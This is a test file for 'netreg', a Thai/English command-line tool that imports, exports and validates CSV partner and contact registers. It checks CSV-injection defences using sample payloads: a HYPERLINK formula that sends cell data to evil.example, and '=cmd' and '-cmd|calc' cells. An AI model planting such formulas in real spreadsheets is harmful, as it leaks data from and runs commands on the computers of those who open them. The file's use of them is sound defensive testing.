import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import { parseCsv } from '../../../shared/csv/parseCsv';
import { fixtureFolder, registerFiles, runCsvExport, runImport, runNetreg } from './netregRun';

const DEMO = join(import.meta.dirname, '../../../demo/register');

let cwd: string;
beforeEach(() => {
  cwd = fixtureFolder('netreg-cli-', ['register', 'csv']);
});

const run = (...args: string[]) => runNetreg(cwd, args);

describe('netreg import', () => {
  it('imports the legacy partner list: prints added, matched and rejected lines, and writes them', async () => {
    const { code, out } = await runImport(
      cwd,
      'csv/legacy-contacts-windows-874.csv',
      'partners',
      '--lang',
      'en',
    );
    expect(code).toBe(0);
    expect(out).toContain('encoding windows-874');
    expect(out).toMatch(/line 2 {2}P-0009 {2}เทศบาลตำบลริมใต้/);
    expect(out).toMatch(/line 3 {2}P-0005 {2}already in the register/);
    expect(out).toMatch(/line 6 .*not-an-email/);
    expect(out).toMatch(/line 7 .*shifted/);
    const partners = parseCsv(readFileSync(join(cwd, 'register/partners.csv'), 'utf8')).grid;
    expect(partners).toHaveLength(1 + 10);
    const contacts = parseCsv(readFileSync(join(cwd, 'register/contacts.csv'), 'utf8')).grid;
    expect(contacts.slice(1).map((line) => line[2])).toEqual([
      'นายสมชาย ใจดี',
      'นางสาวอรุณี แสงทอง',
      'ครูสมศรี มีสุข',
    ]);
    const meta = JSON.parse(readFileSync(join(cwd, 'register/register.json'), 'utf8'));
    expect(meta.counters).toMatchObject({ partners: 10, contacts: 3 });
    // The register still validates after the import.
    expect((await run('validate')).code).toBe(0);
  });

  it('speaks Thai by default for a Thai register', async () => {
    const { out } = await runImport(cwd, 'csv/activities-excel-utf8-bom.csv', 'activities', '--dry-run');
    expect(out).toContain('ไม่นำเข้า (1)');
    expect(out).toMatch(/แถว 4 .*31\/02\/2568/);
  });

  it('writes nothing on --dry-run', async () => {
    const before = registerFiles(cwd);
    const { code, out } = await runImport(
      cwd,
      'csv/google-contacts-export.csv',
      'contacts',
      '--dry-run',
      '--lang',
      'en',
    );
    expect(code).toBe(0);
    expect(out).toContain('Dry run');
    expect(registerFiles(cwd)).toEqual(before);
  });

  it('exits non-zero and writes nothing when no line could be imported', async () => {
    writeFileSync(join(cwd, 'bad.csv'), 'date,title,partner_ids\n31/02/2568,ประชุม,P-0001\n');
    const before = registerFiles(cwd);
    const { code, err } = await runImport(cwd, 'bad.csv', 'activities', '--lang', 'en');
    expect(code).toBe(1);
    expect(err).toContain('No row could be imported');
    expect(registerFiles(cwd)).toEqual(before);
  });

  it('gives the reason a file is refused whole in English and Thai, as its other errors, or in --lang', async () => {
    writeFileSync(join(cwd, 'no-header.csv'), 'สี,ขนาด\nแดง,ใหญ่\n');
    writeFileSync(join(cwd, 'empty.csv'), '');
    const before = registerFiles(cwd);
    const both = await runImport(cwd, 'no-header.csv', 'partners');
    expect(both.code).toBe(1);
    expect(both.err.trim()).toBe(
      'netreg import: File not imported: No header names a column of the "Partners" tab; headers found: สี, ขนาด' +
        ' / ไม่นำเข้าไฟล์นี้: ไม่พบหัวคอลัมน์ที่รู้จักสำหรับแท็บ "ภาคีเครือข่าย" หัวคอลัมน์ที่พบ: สี, ขนาด',
    );
    const english = await runImport(cwd, 'empty.csv', 'partners', '--lang', 'en');
    expect(english.code).toBe(1);
    expect(english.err.trim()).toBe('netreg import: File not imported: The CSV file holds no data');
    const thai = await runImport(cwd, 'empty.csv', 'partners', '--lang', 'th');
    expect(thai.err.trim()).toBe('netreg import: ไม่นำเข้าไฟล์นี้: ไฟล์ CSV ไม่มีข้อมูล');
    expect(registerFiles(cwd)).toEqual(before);
  });

  it('fails in one readable line, register untouched, on a missing folder, file or unknown tab', async () => {
    const before = registerFiles(cwd);
    const missingDir = await runImport(cwd, 'csv/google-contacts-export.csv', 'contacts', '--dir', 'nowhere');
    expect(missingDir.code).toBe(1);
    expect(missingDir.err.trim().split('\n')).toHaveLength(1);
    expect(missingDir.err).toContain('No register folder');
    const missingFile = await runImport(cwd, 'nothing.csv', 'partners');
    expect(missingFile.code).toBe(1);
    expect(missingFile.err).toContain('no such file');
    const badTab = await runImport(cwd, 'csv/google-contacts-export.csv', 'people');
    expect(badTab.code).toBe(2);
    expect(badTab.err).toContain('unknown tab "people"');
    expect(registerFiles(cwd)).toEqual(before);
    expect(existsSync(join(cwd, 'nowhere'))).toBe(false);
  });
});

describe('netreg export', () => {
  it('writes a tab as CSV with a BOM, labels in the language and safe text', async () => {
    await runImport(cwd, 'csv/legacy-contacts-windows-874.csv', 'partners');
    const { code } = await runCsvExport(cwd, 'partners', 'out/partners.csv', '--lang', 'en');
    expect(code).toBe(1);
    expect(existsSync(join(cwd, 'out'))).toBe(false);
    const ok = await runCsvExport(cwd, 'partners', 'partners-en.csv', '--lang', 'en');
    expect(ok.code).toBe(0);
    const bytes = readFileSync(join(cwd, 'partners-en.csv'));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const grid = parseCsv(bytes.toString('utf8')).grid;
    expect(grid[0].slice(0, 3)).toEqual(['ID', 'Partner name', 'Sector']);
    expect(grid[3][2]).toBe('University');
    expect(grid.some((line) => line.includes('\'=HYPERLINK("http://evil.example/?"&A1,"คลิก")'))).toBe(true);
  });

  it('needs --tab and --out for csv', async () => {
    expect((await run('export', '--format', 'csv', '--out', 'x.csv')).code).toBe(2);
    expect((await run('export', '--tab', 'partners')).code).toBe(2);
  });
});

describe('netreg validate', () => {
  it('passes the shipped demo register', async () => {
    const { code, out } = await run('validate', '--dir', DEMO, '--lang', 'en');
    expect(code).toBe(0);
    expect(out).toContain('The register is valid');
    expect(out).toMatch(/Partners \(partners\.csv\): \d+ rows, no problems/);
  });

  it('lists bad values, dangling references and duplicate ids with a count per tab, exit 1', async () => {
    writeFileSync(
      join(cwd, 'register/contacts.csv'),
      'id,partner_id,name,email,phone\nC-0001,P-0001,ครูสมศรี,not-mail,02-123-4567\nC-0001,P-0042,นายสมชาย,,\nC-0003,P-0002,=cmd,,\nC-0004,P-0002,-cmd|calc,,\n',
    );
    const { code, out } = await run('validate', '--lang', 'en');
    expect(code).toBe(1);
    expect(out).toMatch(/Contacts \(contacts\.csv\): 4 rows, 5 problems/);
    expect(out).toMatch(/line 2: .*not-mail/);
    expect(out).toMatch(/line 3: .*P-0042/);
    expect(out).toMatch(/line 3: .*also used on line 2/);
    // A formula in a data column is not data: the name is read as missing, and the formula noted.
    expect(out).toMatch(/line 4: .*required/);
    expect(out).toContain('1 cells in data columns hold formulas');
    expect(out).toMatch(/line 5: .*starts like a formula/);
    expect(out).toContain('5 problems found');
  });
});
